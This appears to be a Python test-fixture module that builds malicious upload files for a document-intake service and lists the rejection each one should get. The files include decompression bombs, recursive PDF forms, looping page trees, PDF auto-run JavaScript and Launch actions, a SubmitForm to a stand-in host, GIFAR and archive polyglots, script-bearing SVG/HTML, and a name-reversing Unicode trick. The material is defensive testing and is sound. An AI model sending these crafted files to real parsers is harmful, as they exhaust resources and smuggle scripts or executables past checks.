"""Files that somebody made to harm whoever reads them; each is built here, none is kept."""

import io
import struct
import zlib
from functools import cache

from PIL import Image

from tests.corpus.instruments import pdf, whole_pdf

SECRET = "Zimtstern"  # stands in each of them: it is found nowhere afterwards
CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
LEAF = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
MB = 1 << 20


def packed(size: int, times: int = 1, what: bytes = b"\0") -> bytes:
    """So many bytes of one thing, deflated; never all of them in memory."""
    piece = (what * (MB // len(what) + 1))[:MB]
    deflate = zlib.compressobj(9)
    first = deflate.compress(piece) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(piece) + deflate.flush(zlib.Z_FULL_FLUSH)
    sums = struct.pack(">I", (size % 65_521) << 16 | 1)  # as it is of zeros
    small = first + again * (size // MB - 1) + b"\x03\x00" + sums
    for _ in range(times - 1):
        small = zlib.compress(small, 9)
    return small


def large_png(side: int) -> bytes:
    """A picture of so many pixels a side, black and white, in a few kilobytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        sum_of_it = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + sum_of_it

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = packed((side // 8 + 2) * side // MB * MB + MB)
    parts = (chunk(b"IHDR", head), chunk(b"IDAT", rows), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def stream(head: bytes, content: bytes) -> bytes:
    return (
        b"<< %s /Length %d >> stream\n" % (head, len(content))
        + content
        + b"\nendstream"
    )


def one_page(*parts: bytes, resources: bytes = b"") -> bytes:
    """A PDF of one page; the first of ``parts`` (object 4) is what it draws."""
    leaf = (
        LEAF[:-2]
        + b" /Contents 4 0 R /Resources << /XObject << %s >> >> >>" % resources
    )
    return whole_pdf([CATALOGUE, PAGES, leaf, *parts])


def with_root(entry: bytes, *more: bytes) -> bytes:
    root = CATALOGUE[:-2] + b" " + entry + b" >>"
    return whole_pdf([root, PAGES, LEAF, *more])


def nested_flate() -> bytes:
    """A gigabyte in a few hundred bytes: deflated twice."""
    head = b"/Filter [/FlateDecode /FlateDecode]"
    return one_page(stream(head, packed(1024 * MB, times=2)))


def lines_without_end() -> bytes:
    content = packed(60 * MB, what=b"0 0 m 612 792 l S\n")
    return one_page(stream(b"/Filter /FlateDecode", content))


def forms_in_forms() -> bytes:
    """Ten times the next, ten times the next: thirty deep."""
    head = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
        b" /Resources << /XObject << /F %d 0 R >> >>"
    )
    forms = [stream(head % n, b"/F Do " * 10) for n in range(6, 36)]
    last = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]", b"0 0 m 9 9 l S")
    return one_page(stream(b"", b"/F Do"), *forms, last, resources=b"/F 5 0 R")


@cache
def _large_image() -> bytes:
    head = (
        b"/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /BitsPerComponent 8"
        b" /ColorSpace /DeviceGray /Filter /FlateDecode"
    )
    return stream(head, packed(400 * MB))


_DRAWS_I = stream(b"", b"q 612 0 0 792 0 0 cm /I Do Q")


def large_image() -> bytes:
    return one_page(_DRAWS_I, _large_image(), resources=b"/I 5 0 R")


def large_image_in_a_form() -> bytes:
    head = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
        b" /Resources << /XObject << /I 6 0 R >> >>"
    )
    form = stream(head, b"q 612 0 0 792 0 0 cm /I Do Q")
    return one_page(stream(b"", b"/F Do"), form, _large_image(), resources=b"/F 5 0 R")


def large_mask() -> bytes:
    """A small picture with a mask of 400 million pixels."""
    head = (
        b"/Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8"
        b" /ColorSpace /DeviceGray /SMask 6 0 R"
    )
    small = stream(head, b"\0" * 100)
    return one_page(_DRAWS_I, small, _large_image(), resources=b"/I 5 0 R")


def many_pages(number: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(number))
    pages = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (number, kids)
    return whole_pdf([CATALOGUE, pages, *[LEAF] * number])


def a_tree_that_is_its_own_child() -> bytes:
    pages = b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"
    return whole_pdf([CATALOGUE, pages, LEAF])


def table_nowhere() -> bytes:
    """Its table lies behind its end."""
    head, _, _ = scan_pdf().rpartition(b"startxref")
    return head + b"startxref\n999999999\n%%EOF"


def table_in_a_loop() -> bytes:
    """The table before this one is this one."""
    head, _, tail = scan_pdf().rpartition(b"startxref")
    prev = b"<< /Prev %d" % int(tail.split()[0])
    body, dictionary, rest = head.rpartition(b"<<")
    assert dictionary
    return body + prev + rest + b"startxref" + tail


def locked() -> bytes:
    encrypt = b"<< /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >>" % (
        b"x" * 32,
        b"y" * 32,
    )
    return whole_pdf([CATALOGUE, PAGES, LEAF, encrypt], b"/Encrypt 4 0 R")


def attached() -> bytes:
    return with_root(
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        stream(b"/Type /EmbeddedFile", b"MZ" + SECRET.encode()),
    )


def scripted(entry: bytes) -> bytes:
    return with_root(entry % SECRET.encode())


def scan_pdf(pages: int = 1) -> bytes:
    words = ("SUPERIOR COURT OF WASHINGTON FOR KING COUNTY", SECRET)
    return pdf((words * 20,) * pages)


def picture(kind="PNG", size=(60, 80), mode="RGB", **options) -> bytes:
    written = io.BytesIO()
    Image.new(mode, size).save(written, kind, **options)
    return written.getvalue()


HTML = b"<!doctype html><script>alert('%s')</script>" % SECRET.encode()
SVG = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>%s</script></svg>"
    % SECRET.encode()
)
ZIP = b"PK\x03\x04%s\x00PK\x05\x06" % SECRET.encode() + b"\0" * 18
GIFAR = b"GIF89a" + b"\0" * 40 + ZIP

# A paper: sent as, what it is, and what whoever sent it is told.
# fmt: off
NO_PAPERS = {
    "empty":                    ("scan.pdf",      b"",                                   "empty"),
    "one byte":                 ("scan.pdf",      b"%",                                  "not a scan"),
    "cut short":                ("scan.pdf",      scan_pdf()[:400],                      "not whole"),
    "nothing but zeros":        ("scan.pdf",      b"%PDF-1.7\n" + b"\0" * 9 * MB + b"%%EOF", "cannot be read"),
    "tree in a loop":           ("scan.pdf",      a_tree_that_is_its_own_child,          "cannot be read"),
    "21 pages":                 ("scan.pdf",      lambda: many_pages(21),                "21 pages"),
    "10,000 pages":             ("scan.pdf",      lambda: many_pages(10_000),            "10000 pages"),
    "locked":                   ("scan.pdf",      locked,                                "password"),
    "deflated twice":           ("scan.pdf",      nested_flate,                          "cannot be read|too large"),
    "lines without end":        ("scan.pdf",      lines_without_end,                     "cannot be read|too large"),
    "forms in forms":           ("scan.pdf",      forms_in_forms,                        "cannot be read|too large"),
    "400 million pixels":       ("scan.pdf",      large_image,                           "too large"),
    "the same in a form":       ("scan.pdf",      large_image_in_a_form,                 "too large"),
    "the same as a mask":       ("scan.pdf",      large_mask,                            "cannot be read|too large"),
    "opens a script":           ("scan.pdf",      lambda: scripted(b"/OpenAction << /S /JavaScript /JS (%s) >>"), "script"),
    "launches":                 ("scan.pdf",      lambda: scripted(b"/OpenAction << /S /Launch /F (%s.exe) >>"),  "script"),
    "sends":                    ("scan.pdf",      lambda: scripted(b"/AA << /O << /S /SubmitForm /F (http://%s.example) >> >>"), "script"),
    "attached":                 ("scan.pdf",      attached,                              "another file"),
    "PDF and archive":          ("scan.pdf",      lambda: scan_pdf() + ZIP,              "two kinds"),
    "PDF and a page":           ("scan.pdf",      lambda: scan_pdf() + HTML,             "two kinds"),
    "picture and archive":      ("scan.png",      lambda: picture() + ZIP,               "two kinds"),
    "GIFAR":                    ("scan.jpg",      GIFAR,                                 "not a scan"),
    "2,500 million pixels":     ("scan.png",      lambda: large_png(50_000), "cannot be read|too large"),
    "a page named scan":        ("scan.pdf",      HTML,                                  "not a scan"),
    "SVG":                      ("scan.svg",      SVG,                                   "not taken"),
    "SVG named scan":           ("scan.png",      SVG,                                   "not a scan"),
    "archive":                  ("scan.pdf",      ZIP,                                   "not a scan"),
    "scan.pdf.exe":             ("scan.pdf.exe",  scan_pdf,                              "two endings"),
    "scan.exe":                 ("scan.exe",      b"MZ" + SECRET.encode(),               "not taken"),
    "turned name":              ("nacs\u202efdp.exe", scan_pdf,                          "hides"),
}
NO_PHOTOS = {
    "empty":                    (b"",                                                    "empty"),
    "cut short":                (lambda: picture("JPEG", (300, 400))[:300],              "no photo"),
    "a page":                   (HTML,                                                   "no photo"),
    "SVG":                      (SVG,                                                    "no photo"),
    "PDF":                      (scan_pdf,                                               "no photo"),
    "GIFAR":                    (GIFAR,                                                  "no photo"),
    "2,500 million pixels":     (lambda: large_png(50_000),       "no photo|too many pixels"),
    "many layers of colour":    (lambda: picture("PNG", (6_300, 6_300), "RGBA"),         "too large"),
}
# fmt: on


# Not as it should be, and nothing of it can harm: it is drawn anew like any other.
MENDED = {"table nowhere": table_nowhere, "table in a loop": table_in_a_loop}


def made(what) -> bytes:
    return what() if callable(what) else what


class Endless:
    """The body of a request with one file of so many zeros; it lies nowhere."""

    BOUNDARY = "b0undary"

    def __init__(self, field: str, name: str, size: int, **fields: str):
        rows = [
            f'--{self.BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'
            f"{value}\r\n"
            for key, value in fields.items()
        ]
        rows.append(
            f'--{self.BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; '
            f'filename="{name}"\r\nContent-Type: application/pdf\r\n\r\n'
        )
        self._parts = ["".join(rows).encode(), size, f"\r\n--{self.BOUNDARY}--\r\n"]
        self._parts[2] = self._parts[2].encode()
        self.length = len(self._parts[0]) + size + len(self._parts[2])

    def read(self, size: int = -1) -> bytes:
        assert 0 <= size <= MB, "nobody reads it all at once"
        head, zeros, tail = self._parts
        if head:
            self._parts[0] = head[size:]
            return head[:size]
        if zeros:
            given = min(size, zeros)
            self._parts[1] = zeros - given
            return b"\0" * given
        self._parts[2] = tail[size:]
        return tail[:size]

    def readline(self, size: int = -1) -> bytes:
        raise AssertionError("nobody reads it line by line")

    def environment(self, address: str) -> dict:
        return {
            "REQUEST_METHOD": "POST",
            "PATH_INFO": address,
            "CONTENT_TYPE": f"multipart/form-data; boundary={self.BOUNDARY}",
            "CONTENT_LENGTH": str(self.length),
            "wsgi.input": self,
        }
